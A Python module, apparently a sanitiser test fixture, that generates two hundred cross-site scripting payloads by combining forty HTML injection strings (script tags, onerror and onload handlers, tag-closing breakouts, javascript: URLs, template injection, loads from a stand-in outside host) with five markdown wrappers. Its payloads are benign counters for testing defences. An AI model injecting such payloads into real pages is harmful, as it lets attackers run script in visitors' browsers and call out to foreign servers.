"""Two hundred texts that would run a script, or ask a server of somebody else's, on a page that lets them."""

HIT = "window.hit=(window.hit||0)+1"
AWAY = "https://away.example"

BITES = (
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror='{HIT}'>",
    f"<img src={AWAY}/p.png>",
    f"<svg onload='{HIT}'>",
    f"<svg><script>{HIT}</script></svg>",
    f"<body onload='{HIT}'>",
    f"<iframe src='javascript:parent.{HIT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data={AWAY}/o></object>",
    f"<embed src={AWAY}/e>",
    f"<link rel=stylesheet href={AWAY}/s.css>",
    f"<style>@import '{AWAY}/i.css';</style>",
    f'<div style="background:url({AWAY}/b.png)">x</div>',
    f"<input autofocus onfocus='{HIT}'>",
    f"<details open ontoggle='{HIT}'><summary>x</summary></details>",
    f"<video src=x onerror='{HIT}'></video>",
    f"<audio src=x onerror='{HIT}'></audio>",
    f"<video poster={AWAY}/v.png></video>",
    f"<marquee onstart='{HIT}'>x</marquee>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/><img src=rel.png>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<math><mtext><img src=x onerror='{HIT}'></mtext></math>",
    f"<svg><animate onbegin='{HIT}' attributeName=x dur=1s></svg>",
    f"<svg><image href={AWAY}/i.png></image></svg>",
    f"<table background={AWAY}/t.png><tr><td>x</td></tr></table>",
    f"<picture><source srcset={AWAY}/s.png><img src=x onerror='{HIT}'></picture>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{HIT}'>\">",
    f"<textarea></textarea><img src=x onerror='{HIT}'>",
    f"</textarea><script>{HIT}</script>",
    f"</pre></div></section><script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><img src=x onerror='{HIT}'>",
    f"</title><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
)

WRAPS = (
    "{}",
    "see [this](javascript:" + HIT.replace("(", "%28").replace(")", "%29") + ") and {}",
    "![{}](" + AWAY + '/m.png "{}")',
    "```html\n{}\n```\n\n# {}\n\n| a |\n|---|\n| {} |",
    "> {}\n\n<" + AWAY + "> and &lt;script&gt;" + HIT + "&lt;/script&gt; \u202e {}",
)


def payloads():
    """All of them, each once."""
    return [wrap.replace("{}", bite) for wrap in WRAPS for bite in BITES]
